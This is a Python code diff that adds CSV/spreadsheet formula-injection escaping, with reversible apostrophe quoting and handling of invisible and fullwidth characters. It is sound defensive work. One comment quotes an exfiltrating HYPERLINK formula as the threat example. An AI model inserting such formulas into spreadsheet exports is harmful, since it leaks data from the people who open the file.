@@ -55,3 +55,43 @@ def plain_text(text: str) -> str:
     # document, they meant a new line. (str.replace: str.translate goes a character at
     # a time through anything but ASCII.)
     return _DROPPED_IN_TEXT.sub("", text).replace("\v", "\n").replace("\f", "\n")
+
+
+# A cell starting with one of these is a formula to a spreadsheet (OWASP "CSV
+# injection"): whoever opens an export would run what a name or a statement says,
+# =HYPERLINK("http://…?"&A1) sending the next cell's text away.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _visible_start(text: str) -> str:
+    """`text` from its first visible character, compatibility forms folded (NFKC).
+
+    Why: a spreadsheet may skip spaces, controls and zero-width characters before
+    an "=", and read a fullwidth "＝" as one."""
+    folded = unicodedata.normalize("NFKC", text)
+    for i, ch in enumerate(folded):
+        if not (ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf")):
+            return folded[i:]
+    return ""
+
+
+def _needs_quote(text: str) -> bool:
+    """Whether `text` starts like a formula, also behind invisible characters, or
+    behind apostrophes (so that quoting stays reversible: "'=1" is quoted again)."""
+    bare = text.lstrip("'")
+    return bare.startswith(FORMULA_STARTS) or _visible_start(bare).startswith(FORMULA_STARTS)
+
+
+def formula_escape(text: str) -> str:
+    """`text` as a spreadsheet cell that shows it and never runs it: text starting
+    like a formula gets a leading apostrophe. Every CSV or spreadsheet Habeas
+    writes passes every cell through here."""
+    return "'" + text if _needs_quote(text) else text
+
+
+def formula_unescape(text: str) -> str:
+    """The exact inverse of `formula_escape`, for a cell read back from a file:
+    the apostrophe comes off only where `formula_escape` would have put it."""
+    if text.startswith("'") and _needs_quote(text[1:]):
+        return text[1:]
+    return text
